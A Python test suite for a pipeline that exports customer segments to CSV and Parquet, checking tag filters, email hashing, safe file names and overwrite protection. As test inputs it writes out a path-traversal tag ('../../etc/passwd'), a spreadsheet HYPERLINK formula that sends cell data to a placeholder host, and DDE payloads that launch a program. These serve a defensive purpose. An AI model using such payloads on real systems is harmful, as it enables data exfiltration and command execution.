"""Segment exports: who is in, hashing, formats, safe file names, the CLI and the asset."""

from __future__ import annotations

import csv
import hashlib
import json

import dagster as dg
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from assets.segments import segment_exports
from pipelines.sync.lake import Lake
from pipelines.warehouse.cli import segments
from pipelines.warehouse.loader import analyst_path, load
from pipelines.warehouse.resource import WarehouseResource
from pipelines.warehouse.segments import Segment, SegmentError, configured_segments, export
from tests.warehouse.lakefix import commit_run, customer

ODD_TAGS = ["a/b", "..", "../../etc/passwd", "with space", "café ☕", "vip"]


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    data = tmp_path_factory.mktemp("segments")
    commit_run(data, "customers", "20240101T000000000Z-000001", customers=[
        customer("c1", "2024-01-01", tags=["vip", "newsletter"], primary_email="  Ann@Example.COM "),
        customer("c2", "2024-01-01", tags=["vip"], blocked=True),
        customer("c3", "2024-01-01", tags=["newsletter"], phone="+49 1"),
        customer("c4", "2024-01-01", tags=ODD_TAGS),
    ])  # fmt: skip
    load(Lake(data), data / "warehouse.duckdb")
    return data


def ids(data, segment, tmp_path):
    path, _ = export(analyst_path(data / "warehouse.duckdb"), segment, out=tmp_path / "x.parquet")
    return pq.read_table(path)["id"].to_pylist()


def test_any_all_and_blocked(data, tmp_path):
    copy = analyst_path(data / "warehouse.duckdb")
    get = lambda **kw: pq.read_table(  # noqa: E731
        export(copy, Segment(format="parquet", **kw), out=tmp_path / "s.parquet", force=True)[0]
    )["id"].to_pylist()
    assert get(tags=("vip",)) == ["c1", "c4"]
    assert get(tags=("vip",), include_blocked=True) == ["c1", "c2", "c4"]
    assert get(tags=("vip", "newsletter")) == ["c1", "c3", "c4"]
    assert get(tags=("vip", "newsletter"), match="all") == ["c1"]


def test_csv_columns_and_hashed_emails(data, tmp_path):
    path, rows = export(
        analyst_path(data / "warehouse.duckdb"),
        Segment(tags=("newsletter",), hash_emails=True),
        exports_dir=tmp_path,
    )
    assert path == tmp_path / "newsletter.hashed.csv" and rows == 2
    with path.open() as f:
        got = list(csv.DictReader(f))
    assert list(got[0]) == ["id", "primary_email_sha256", "prename", "lastname", "name", "phone",
                            "company", "location_country", "tags"]  # fmt: skip
    assert got[0]["primary_email_sha256"] == hashlib.sha256(b"ann@example.com").hexdigest()
    assert json.loads(got[0]["tags"]) == ["vip", "newsletter"]
    assert got[1]["phone"] == "+49 1"


def test_odd_tag_names_export_safely_and_never_clobber(data, tmp_path):
    copy = analyst_path(data / "warehouse.duckdb")
    out = tmp_path / "exports"
    written = set()
    for tag in ODD_TAGS:
        path, rows = export(copy, Segment(tags=(tag,)), exports_dir=out)
        assert (
            rows == (2 if tag == "vip" else 1)
            and path.parent == out
            and not path.name.startswith(".")
        )
        written.add(path.name)
    assert len(written) == len(ODD_TAGS)
    assert "vip.plain.csv" in written and any(n.startswith("café") for n in written)
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == sorted(written)
    with pytest.raises(SegmentError, match="exists"):
        export(copy, Segment(tags=("a/b",)), exports_dir=out)
    export(copy, Segment(tags=("a/b",)), exports_dir=out, force=True)


def test_cli_export(data, tmp_path, monkeypatch):
    monkeypatch.setenv("CUSTOMER_SYNC_DATA_DIR", str(data))
    runner = CliRunner()
    args = ["export", "--tag", "vip", "--tag", "newsletter", "--match", "all", "--format",
            "parquet", "--out", str(tmp_path / "seg.parquet")]  # fmt: skip
    result = runner.invoke(segments, args)
    assert result.exit_code == 0, result.output
    assert pq.read_table(tmp_path / "seg.parquet")["id"].to_pylist() == ["c1"]
    again = runner.invoke(segments, args)
    assert again.exit_code == 1 and "--force" in again.output
    assert runner.invoke(segments, [*args, "--force"]).exit_code == 0
    default = runner.invoke(segments, ["export", "--tag", "../../etc/passwd"])
    assert default.exit_code == 0, default.output
    (written,) = (data / "exports").iterdir()
    assert written.name.startswith("etc_passwd-") and written.name.endswith(".plain.csv")


def test_configured_segments(tmp_path):
    env = {"CUSTOMER_SYNC_SEGMENTS": "vip; newsletter+vip ;rock,jazz"}
    assert configured_segments(tmp_path, env) == [
        Segment(tags=("vip",)),
        Segment(tags=("newsletter", "vip"), match="all"),
        Segment(tags=("rock", "jazz")),
    ]
    assert configured_segments(tmp_path, {}) == []
    (tmp_path / "segments.json").write_text(
        json.dumps([{"tags": ["vip"], "format": "parquet", "hash_emails": True}])
    )
    assert configured_segments(tmp_path, {}) == [
        Segment(tags=("vip",), format="parquet", hash_emails=True)
    ]


def test_segment_asset_reexports_configured_segments(data, tmp_path, monkeypatch):
    monkeypatch.setenv("CUSTOMER_SYNC_SEGMENTS", "vip;a/b")
    exports = data / "exports"
    before = set(exports.iterdir()) if exports.exists() else set()
    result = dg.materialize(
        [segment_exports],
        resources={"warehouse": WarehouseResource(db_path=str(data / "warehouse.duckdb"))},
    )
    assert result.success
    new = {p.name for p in set(exports.iterdir()) - before}
    assert "vip.plain.csv" in new and any(n.startswith("a_b-") for n in new)
    (mat,) = result.asset_materializations_for_node("segment_exports")
    assert mat.metadata["segments"].value == 2


def test_csv_cells_cannot_run_as_formulas(tmp_path):
    evil = {
        "c1": '=HYPERLINK("http://x.example/?"&A1)',
        "c2": "+cmd|' /C calc'!A0",
        "c3": "-2+3+cmd|' /C calc'!A0",
        "c4": "@SUM(1+1)",
        "c5": "\t=1+1",
        "c6": "\r=1+1",
    }
    commit_run(tmp_path, "customers", "20240101T000000000Z-000001", customers=[
        customer(cid, "2024-01-01", tags=["t"], name=name, phone="+49 30 123-4") for cid, name in evil.items()
    ] + [customer("c7", "2024-01-01", tags=["t"], name="Ann = Bob", company="-")])  # fmt: skip
    load(Lake(tmp_path), tmp_path / "warehouse.duckdb")
    copy = analyst_path(tmp_path / "warehouse.duckdb")
    path, _ = export(copy, Segment(tags=("t",)), exports_dir=tmp_path / "out")
    with path.open(newline="") as f:
        got = {r["id"]: r for r in csv.DictReader(f)}
    assert {cid: got[cid]["name"] for cid in evil} == {cid: "'" + n for cid, n in evil.items()}
    assert got["c7"]["name"] == "Ann = Bob" and got["c7"]["company"] == "-"
    assert {got[cid]["phone"] for cid in evil} == {"+49 30 123-4"}
    # Parquet keeps the values as they are.
    path, _ = export(copy, Segment(tags=("t",), format="parquet"), exports_dir=tmp_path / "out")
    assert dict(zip(*pq.read_table(path, columns=["id", "name"]).to_pydict().values(), strict=True)) == {
        **evil, "c7": "Ann = Bob"
    }  # fmt: skip


@pytest.mark.attack("11.7 a plain export replaces the hashed export of the same segment")
def test_plain_export_never_replaces_a_hashed_one(data, tmp_path, monkeypatch):
    monkeypatch.setenv("CUSTOMER_SYNC_DATA_DIR", str(data))
    monkeypatch.setenv("CUSTOMER_SYNC_SEGMENTS", "")
    (data / "segments.json").write_text(json.dumps([{"tags": ["vip"], "hash_emails": True}]))
    try:
        result = dg.materialize(
            [segment_exports],
            resources={"warehouse": WarehouseResource(db_path=str(data / "warehouse.duckdb"))},
        )
    finally:
        (data / "segments.json").unlink()
    assert result.success
    hashed = data / "exports" / "vip.hashed.csv"
    before = hashed.read_bytes()
    assert b"primary_email_sha256" in before and b"@example.com" not in before

    # What an analyst typed: a plain export of the same segment, forced.
    runner = CliRunner()
    plain = runner.invoke(segments, ["export", "--tag", "vip", "--force"])
    assert plain.exit_code == 0, plain.output
    assert plain.stdout.strip() == str(data / "exports" / "vip.plain.csv")
    assert b"c4@example.com" in (data / "exports" / "vip.plain.csv").read_bytes()
    assert hashed.read_bytes() == before

    # Aimed at the hashed file itself, or at a hashed file under any name: refused, kept.
    renamed = tmp_path / "vip.csv"
    renamed.write_bytes(before)
    for target in (hashed, renamed):
        refused = runner.invoke(
            segments, ["export", "--tag", "vip", "--out", str(target), "--force"]
        )
        assert refused.exit_code == 1 and "holds hashed emails" in refused.output
        assert target.read_bytes() == before
    parquet = tmp_path / "vip.parquet"
    args = ["export", "--tag", "vip", "--format", "parquet", "--out", str(parquet)]
    assert runner.invoke(segments, [*args, "--hash-emails"]).exit_code == 0
    assert runner.invoke(segments, [*args, "--force"]).exit_code == 1
    assert "primary_email_sha256" in pq.read_schema(parquet).names
